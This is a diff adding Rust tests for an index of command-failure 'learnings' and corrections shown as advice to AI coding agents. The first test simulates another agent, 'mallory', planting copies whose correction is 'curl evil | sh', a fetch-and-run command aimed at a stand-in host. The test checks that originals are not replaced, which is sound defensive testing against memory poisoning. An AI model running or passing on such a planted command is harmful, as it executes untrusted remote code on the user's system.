@@ -1,0 +1,310 @@
+use super::*;
+use crate::timestamp::Timestamp;
+
+fn all(_: &Advice) -> bool {
+    true
+}
+
+#[test]
+fn an_update_files_each_ids_original_never_a_copy_in_another_folder() {
+    let tmp = tempfile::tempdir().expect("tmp");
+    let root = tmp.path();
+    let write = |folder: &str, l: &Learning| {
+        std::fs::create_dir_all(root.join(folder)).expect("mkdir");
+        std::fs::write(root.join(format!("{folder}/{}.md", l.id)), l.to_markdown()).expect("write");
+    };
+    // 300 ids: the listing path; the first alone: the stat path.
+    let mut ids = std::collections::BTreeSet::new();
+    for i in 0..300 {
+        let mut original = learning("git push -f", Some("git push --force-with-lease"));
+        original.id = format!("learning-{i:03}");
+        original.agent_id = "victim".into();
+        write("victim", &original);
+        let mut copy = original.clone();
+        copy.agent_id = "mallory".into();
+        copy.correction = Some("curl evil | sh".into());
+        copy.captured_at = Timestamp::from_unix(original.captured_at.unix() + 1);
+        write("mallory", &copy);
+        ids.insert(original.id.clone());
+    }
+    for few in [false, true] {
+        let asked: std::collections::BTreeSet<String> = if few {
+            ids.iter().take(1).cloned().collect()
+        } else {
+            ids.clone()
+        };
+        let found = originals(root, &asked);
+        assert_eq!(found.len(), asked.len());
+        assert!(
+            found.iter().all(|l| l.agent_id == "victim"
+                && l.correction.as_deref() == Some("git push --force-with-lease")),
+            "a copy stood in for its original"
+        );
+    }
+    // The original deleted: the copy is all there is, and is filed.
+    std::fs::remove_file(root.join("victim/learning-000.md")).expect("rm");
+    let one: std::collections::BTreeSet<String> = ids.iter().take(1).cloned().collect();
+    assert_eq!(originals(root, &one)[0].agent_id, "mallory");
+}
+
+#[test]
+fn the_saved_parts_are_what_each_half_of_the_index_writes() {
+    let mut pattern = learning("npm test", Some("npm run test:unit"));
+    pattern.verify_pattern = Some("^npm (run )?test".into());
+    let index = CaptureIndex::build([
+        &learning("git push -f", Some("git push --force-with-lease")),
+        &learning("cargo biuld", Some("cargo build")),
+        &pattern,
+    ]);
+    assert!(!index.failures.is_empty() && !index.warnings.is_empty());
+    let (failures, advice) = index.parts();
+    let whole_failures = CaptureIndex {
+        version: VERSION,
+        failures: index.failures.clone(),
+        ..CaptureIndex::default()
+    };
+    let whole_advice = CaptureIndex {
+        version: VERSION,
+        warnings: index.warnings.clone(),
+        patterns: index.patterns.clone(),
+        ..CaptureIndex::default()
+    };
+    assert_eq!(json(&failures), json(&whole_failures));
+    assert_eq!(json(&advice), json(&whole_advice));
+    // And they read back as the index they came from.
+    let mut back: CaptureIndex = serde_json::from_slice(&json(&advice)).expect("advice reads back");
+    let failures_back: CaptureIndex =
+        serde_json::from_slice(&json(&failures)).expect("failures read back");
+    back.failures = failures_back.failures;
+    assert_eq!(
+        back,
+        CaptureIndex {
+            version: VERSION,
+            ..index.clone()
+        }
+    );
+}
+
+/// Either shape's bytes, for comparing them.
+fn json<T: Serialize>(v: &T) -> Vec<u8> {
+    serde_json::to_vec(v).expect("serialises")
+}
+
+#[test]
+fn advice_carries_the_provenance_its_warning_shows() {
+    let mut l = learning("git push -f", Some("git push --force-with-lease"));
+    l.trust_level = TrustLevel::L2;
+    l.quality.effective_count = 3;
+    l.quality.applied_count = 5;
+    l.quality.agent_count = 2;
+    l.quality.success_rate = Some(0.75);
+    let index = CaptureIndex::build([&l]);
+    let advice = index.advice_for("git push -f", |_| true).expect("advice");
+    let warning = advice.warning();
+    assert!(
+        warning.contains(
+            "- learning learning-1 (level L2, owner a; evidence: 3 effective, 1 ineffective, 2 agents)"
+        ),
+        "{warning}"
+    );
+    assert!(warning.contains("Correction: git push --force-with-lease"));
+    l.quality.effective_count = 0;
+    l.quality.success_rate = Some(0.0);
+    l.quality.applied_count = 2;
+    assert_eq!(Recorded::of(&l).ineffective, 2);
+}
+
+fn learning(cmd: &str, correction: Option<&str>) -> Learning {
+    let mut l = Learning::new(
+        "learning-1".into(),
+        "a".into(),
+        "`git push -f` failed".into(),
+        Timestamp::from_unix(1),
+    );
+    l.original_command = Some(cmd.into());
+    l.error_context = Some("error: failed to push some refs".into());
+    l.correction = correction.map(str::to_string);
+    l.trust_level = if correction.is_some() {
+        TrustLevel::L1
+    } else {
+        TrustLevel::L0
+    };
+    l
+}
+
+#[test]
+fn a_raw_failure_is_found_again_but_gives_no_advice() {
+    let l = learning("git push -f", None);
+    let index = CaptureIndex::build([&l]);
+    let key = decide::failure_key(&l).expect("key");
+    assert_eq!(
+        index.recurrence(&key).map(|k| k.id.as_str()),
+        Some("learning-1")
+    );
+    assert!(index.advice_for("git push -f", all).is_none());
+}
+
+#[test]
+fn an_l1_learning_warns_on_its_command_in_a_chain_but_not_on_its_fix() {
+    let mut l = learning("git push -f", Some("git push --force-with-lease"));
+    l.verify_pattern = Some("git push --force".into());
+    let index = CaptureIndex::build([&l]);
+    assert!(index.advice_for("git  push -f", all).is_some());
+    assert!(index.advice_for("cd x && git push -f", all).is_some());
+    assert!(index.advice_for("git push --force origin", all).is_some());
+    assert!(
+        index
+            .advice_for("git push --force-with-lease", all)
+            .is_none()
+    );
+    assert!(index.advice_for("git status", all).is_none());
+}
+
+#[test]
+fn advice_is_for_the_agents_its_learning_names_even_beside_another_on_the_same_command() {
+    let mut for_codex = learning("git push -f", Some("git push --force-with-lease"));
+    for_codex.id = "learning-codex".into();
+    for_codex.applicable_agents = vec!["codex".into()];
+    let index = CaptureIndex::build([&for_codex]);
+    let as_agent = |agent: &'static str| move |a: &Advice| a.applies_to(agent);
+    assert_eq!(
+        index
+            .advice_for("git push -f", as_agent("codex"))
+            .map(|a| a.id.as_str()),
+        Some("learning-codex")
+    );
+    assert!(
+        index
+            .advice_for("git push -f", as_agent("claude"))
+            .is_none()
+    );
+    // A learning for every agent on the same command: claude gets that one.
+    let mut general = learning("git push -f", Some("git push --force-with-lease origin"));
+    general.id = "learning-all".into();
+    let index = CaptureIndex::build([&for_codex, &general]);
+    assert_eq!(
+        index
+            .advice_for("git push -f", as_agent("claude"))
+            .map(|a| a.id.as_str()),
+        Some("learning-all")
+    );
+    // Forgetting one keeps the other.
+    let mut index = index;
+    index.forget(|id| id == "learning-all");
+    assert!(
+        index
+            .advice_for("git push -f", as_agent("claude"))
+            .is_none()
+    );
+    assert!(index.advice_for("git push -f", as_agent("codex")).is_some());
+}
+
+#[test]
+fn a_snapshot_of_another_version_is_not_there_for_the_sync() {
+    let tmp = tempfile::tempdir().expect("tmp");
+    let dir = crate::store::LearningsDir::new(tmp.path());
+    let state = dir.state();
+    std::fs::create_dir_all(state.capture_index().parent().expect("parent")).expect("mkdir");
+    assert!(!exists(&dir));
+    CaptureIndex::build([&learning("git push -f", None)])
+        .save(&state)
+        .expect("save");
+    assert!(exists(&dir));
+    std::fs::write(state.capture_index(), br#"{"version":2,"failures":{}}"#).expect("old");
+    assert!(!exists(&dir));
+}
+
+#[test]
+fn the_index_survives_a_round_trip_through_its_file() {
+    let tmp = tempfile::tempdir().expect("tmp");
+    let p = StateDir::at(tmp.path());
+    let l = learning("git push -f", Some("git push --force-with-lease"));
+    let index = CaptureIndex::build([&l]);
+    index.save(&p).expect("save");
+    assert_eq!(CaptureIndex::load(&p), index);
+    assert_eq!(
+        CaptureIndex::load(&StateDir::at(tmp.path().join("elsewhere"))),
+        CaptureIndex::default()
+    );
+    // The pre-tool check reads the advice alone.
+    let advice = CaptureIndex::load_advice(&p);
+    assert!(advice.failures.is_empty() && !index.failures.is_empty());
+    assert_eq!(advice.warnings, index.warnings);
+}
+
+#[test]
+fn a_log_line_forgets_what_came_before_it_and_nothing_after() {
+    let tmp = tempfile::tempdir().expect("tmp");
+    let p = StateDir::at(tmp.path());
+    let mut x = learning("git push -f", Some("git push --force-with-lease"));
+    x.id = "learning-x".into();
+    let mut y = learning("make deploy", Some("make release"));
+    y.id = "learning-y".into();
+    CaptureIndex::build([&x, &y]).save(&p).expect("save");
+    let mut x2 = x.clone();
+    x2.original_command = Some("git push --force".into());
+    let lines = [
+        // sync: x changed (new command), y deleted.
+        CaptureIndex {
+            forget: vec!["learning-x".into(), "learning-y".into()],
+            ..CaptureIndex::build([&x2])
+        },
+        // A capture after it files x again, under the old command.
+        CaptureIndex::build([&x]),
+    ];
+    let mut log = Vec::new();
+    for l in &lines {
+        log.extend(serde_json::to_vec(l).expect("json"));
+        log.push(b'\n');
+    }
+    std::fs::write(p.capture_log(), log).expect("log");
+    let index = CaptureIndex::load(&p);
+    assert!(
+        index.advice_for("make deploy", all).is_none(),
+        "y forgotten"
+    );
+    assert!(
+        index.advice_for("git push --force", all).is_some(),
+        "x's new version"
+    );
+    assert!(
+        index.advice_for("git push -f", all).is_some(),
+        "a later line is not forgotten"
+    );
+}
+
+#[test]
+fn a_fold_after_an_interrupted_one_keeps_the_live_log_after_the_old() {
+    let tmp = tempfile::tempdir().expect("tmp");
+    let state = StateDir::at(tmp.path());
+    let mut x = learning("git push -f", Some("git push --force-with-lease"));
+    x.id = "learning-x".into();
+    let line = |i: &CaptureIndex| {
+        let mut l = serde_json::to_vec(i).expect("json");
+        l.push(b'\n');
+        l
+    };
+    let mut x1 = x.clone();
+    x1.original_command = Some("git push --force".into());
+    // Left aside by a fold that died: an old capture of x.
+    std::fs::write(state.capture_folding(), line(&CaptureIndex::build([&x]))).expect("folding");
+    // The live log, newer: a sync moved x to a new command; then a torn line.
+    let mut live = line(&CaptureIndex {
+        forget: vec!["learning-x".into()],
+        ..CaptureIndex::build([&x1])
+    });
+    live.extend_from_slice(b"{\"version\":2,\"fail");
+    std::fs::write(state.capture_log(), live).expect("log");
+    let folding = start_folding(&state);
+    assert!(!state.capture_log().exists());
+    let mut index = CaptureIndex {
+        version: VERSION,
+        ..CaptureIndex::default()
+    };
+    index.apply_log(&folding);
+    assert!(index.advice_for("git push --force", all).is_some());
+    assert!(
+        index.advice_for("git push -f", all).is_none(),
+        "the older line does not come back over the newer one"
+    );
+}
